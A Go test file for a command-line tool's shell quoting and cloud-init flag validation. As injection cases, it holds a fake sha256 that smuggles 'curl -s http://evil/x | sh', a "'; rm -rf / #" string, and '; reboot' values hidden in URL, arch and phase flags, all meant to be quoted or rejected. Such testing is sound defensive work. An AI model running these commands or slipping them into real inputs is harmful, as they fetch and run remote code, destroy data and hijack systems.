package cli

import (
	"os/exec"
	"strings"
	"testing"

	"sigs.k8s.io/yaml"
)

func TestShellQuote(t *testing.T) {
	cases := map[string]string{
		"":                    `''`,
		"abc":                 `'abc'`,
		"it's":                `'it'\''s'`,
		`a"b`:                 `'a"b'`,
		"a;b":                 `'a;b'`,
		"$HOME":               `'$HOME'`,
		"`id`":                "'`id`'",
		"$(id)":               `'$(id)'`,
		"a\nb":                "'a\nb'",
		`back\slash`:          `'back\slash'`,
		"'; rm -rf / #":       `''\''; rm -rf / #'`,
		"*? [a] ~ & | < > !x": `'*? [a] ~ & | < > !x'`,
	}
	for in, want := range cases {
		if got := shellQuote(in); got != want {
			t.Errorf("shellQuote(%q) = %s, want %s", in, got, want)
		}
	}
	// A real shell reads each quoted value back as one word, unchanged.
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh")
	}
	for in := range cases {
		out, err := exec.Command(sh, "-c", "printf '%s|' "+shellQuote(in)+" "+shellQuote(in)).Output()
		if err != nil || string(out) != in+"|"+in+"|" {
			t.Errorf("sh read %q back as %q (%v)", in, out, err)
		}
	}
}

// Every cloud-init flag is checked before it reaches user data; a sha256
// that is shell code never becomes a command.
func TestCloudInitFlagsValidated(t *testing.T) {
	_, profile := fakeMirror(t)
	good := strings.Repeat("ab", 32)
	inject := "'; curl -s http://evil/x | sh; echo '" + strings.Repeat("0", 64-37)
	if len(inject) != 64 {
		t.Fatalf("the injected sha256 has %d characters", len(inject))
	}
	cases := []struct {
		args []string
		want string
	}{
		{[]string{"--nodeup-url", "https://dl.internal/nodeup", "--nodeup-sha256", inject}, "--nodeup-sha256 must be exactly 64 lowercase hex digits"},
		{[]string{"--nodeup-url", "https://dl.internal/nodeup", "--nodeup-sha256", strings.ToUpper(good)}, "--nodeup-sha256 must be exactly 64 lowercase hex digits"},
		{[]string{"--nodeup-url", "https://dl.internal/nodeup", "--nodeup-sha256", good + "0"}, "got 65 characters"},
		{[]string{"--nodeup-url", "https://dl.internal/nodeup"}, "--nodeup-sha256 must be"},
		{[]string{"--nodeup-sha256", good}, "--nodeup-sha256 without --nodeup-url"},
		{[]string{"--nodeup-url", "ftp://dl.internal/nodeup", "--nodeup-sha256", good}, `--nodeup-url "ftp://dl.internal/nodeup": want an http:// or https:// URL`},
		{[]string{"--nodeup-url", "https://dl.internal/a b", "--nodeup-sha256", good}, "without spaces or control characters"},
		{[]string{"--nodeup-url", "https://dl.internal/a\n; reboot", "--nodeup-sha256", good}, "without spaces or control characters"},
		{[]string{"--nodeup-url", "-o/etc/passwd", "--nodeup-sha256", good}, "want an http:// or https:// URL"},
		{[]string{"--arch", "amd64;reboot"}, `--arch "amd64;reboot": use amd64 or arm64`},
		{[]string{"--phase", "bake;reboot"}, `--phase "bake;reboot": use bake, boot or all`},
	}
	for _, c := range cases {
		code, out, errs := run(t, append([]string{"cloud-init", profile}, c.args...)...)
		if code != 1 || !strings.Contains(errs, c.want) || out != "" {
			t.Errorf("%q: exit %d, want 1 and %q:\n%s%s", c.args, code, c.want, errs, out)
		}
	}

	code, out, errs := run(t, "cloud-init", profile, "--nodeup-url", "https://dl.internal/nodeup-{arch}", "--nodeup-sha256", good, "--arch", "arm64")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errs)
	}
	var cc cloudConfig
	if err := yaml.Unmarshal([]byte(out), &cc); err != nil {
		t.Fatal(err)
	}
	want := "printf '%s  %s\\n' '" + good + "' '/usr/local/bin/nodeup.download' | sha256sum -c - && chmod 0755 '/usr/local/bin/nodeup.download' && " +
		"mv '/usr/local/bin/nodeup.download' '/usr/local/bin/nodeup'"
	if got := cc.RunCmd[1]; len(got) != 3 || got[0] != "sh" || got[2] != want {
		t.Errorf("check command %q\nwant %q", got, want)
	}
}
